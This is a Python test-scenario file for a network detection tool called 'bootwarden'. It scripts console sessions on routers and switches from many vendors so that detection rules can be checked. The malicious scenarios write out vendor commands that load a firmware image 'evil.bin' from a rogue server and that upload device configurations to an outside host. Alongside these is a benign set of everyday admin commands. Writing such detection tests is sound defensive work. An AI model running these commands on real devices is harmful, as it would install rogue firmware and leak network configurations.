"""BW07 and BW18: commands of many vendors' devices, each typed once."""

from __future__ import annotations

from bootwarden.scenarios.bw07_loaders import console
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic.wire import Wire

OTHERS_LOAD, OTHERS_SEND, CARRIERS_SEND = 1542007001, 1542007002, 1542007004
"""The rules for words of vendors other than Cisco."""
LOADS = (
    (111, "[admin@mt1] > ", f"/tool fetch mode=tftp address={ROGUE} src-path=evil.bin"),
    (112, "Manager > ", f"LOAD METHOD=TFTP FILE=evil.bin SERVER={ROGUE}"),
    (113, "root@LCOS:/> ", f"LoadFirmware -s {ROGUE} -f evil.bin"),
    (114, "ONIE:/ # ", f"onie-nos-install tftp://{ROGUE}/evil.bin"),
    (115, "admin@sonic:~$ ", f"sudo sonic-installer install http://{ROGUE}/evil.bin"),
    (116, "(BRS)# ", f"copy config remote tftp://{ROGUE}/evil.bin nvm"),
    (117, "T2600G# ", f"firmware upgrade ip-address {ROGUE} filename evil.bin"),
    (118, "DES-3526:5# ", f"download firmware_fromTFTP {ROGUE} evil.bin"),
    (119, "admin@PA-220> ", f"tftp import software from {ROGUE} file evil.bin"),
    (120, "OS10# ", f"image install tftp://{ROGUE}/evil.bin"),
)


@scenario(
    "BW07",
    "malicious",
    raises=[
        *(("BW07", OTHERS_LOAD, ATTACKER, f"10.0.1.{last}") for last, _, _ in LOADS),
        ("BW07", 0, ATTACKER, "10.0.1.121"),
    ],
    site=HQ,
    with_site=Expect(
        tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (*(row[0] for row in LOADS), 121))
    ),
)
def bw07_vendors_at_large(wire: Wire) -> None:
    """Images loaded in words of RouterOS, AlliedWare, LCOS, ONIE, SONiC, HiOS, TP-Link, D-Link, PAN-OS, OS10, SR OS."""
    for last, prompt, line in LOADS:
        console(wire, last, prompt, (line, ""))
    console(wire, 121, "A:sr1# ", (f"bof primary-image ftp://u:p@{ROGUE}/evil.bin", ""))


ABROAD = Expect(
    (
        Notice("Config_Exfiltration", "10.0.1.111", OUTSIDE, "x.backup"),
        Notice("Config_Exfiltration", "10.0.1.117", OUTSIDE, "x.cfg"),
        Notice("Config_Exfiltration", "10.0.1.118", OUTSIDE, "x.cfg"),
        Notice("Config_Exfiltration", "10.0.1.119", OUTSIDE),
    )
)
"""It speaks where nothing is declared, too."""


@scenario(
    "BW18",
    "malicious",
    raises=[
        *(("BW18", OTHERS_SEND, ATTACKER, f"10.0.1.{last}") for last in (111, 117, 118)),
        ("BW18", CARRIERS_SEND, ATTACKER, "10.0.1.119"),
    ],
    plain=ABROAD,
    site=HQ,
    with_site=ABROAD,
)
def bw18_vendors_at_large(wire: Wire) -> None:
    """Configurations sent across the border in words of RouterOS, TP-Link, D-Link and PAN-OS."""
    for last, prompt, line in (
        (111, "[admin@mt1] > ", f"/tool fetch upload=yes mode=ftp address={OUTSIDE} src-path=x.backup user=u"),
        (117, "T2600G# ", f"copy startup-config tftp ip-address {OUTSIDE} filename x.cfg"),
        (118, "DES-3526:5# ", f"upload cfg_toTFTP {OUTSIDE} x.cfg"),
        (119, "admin@PA-220> ", f"tftp export configuration from running-config.xml to {OUTSIDE}"),
    ):
        console(wire, last, prompt, (line, ""))


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_vendors_at_work(wire: Wire) -> None:
    """What administrators of the same devices do all day: look, load from the flash, list what there is."""
    for last, prompt, line in (
        (111, "[admin@mt1] > ", "/system package print"),
        (112, "Manager > ", "SHOW LOADER"),
        (113, "root@LCOS:/> ", "ls /Firmware"),
        (114, "ONIE:/ # ", "onie-discovery-stop"),
        (115, "admin@sonic:~$ ", "sudo sonic-installer list"),
        (116, "(BRS)# ", "copy config nvm profile1 nvm profile2"),
        (117, "T2600G# ", "show image-info"),
        (118, "DES-3526:5# ", "show firmware information"),
        (119, "admin@PA-220> ", "show system info"),
        (121, "A:sr1# ", "bof primary-image cf3:/TiMOS"),
        (122, "OS10# ", f"ping {BOOT_SERVER}"),
    ):
        console(wire, last, prompt, (line, ""))
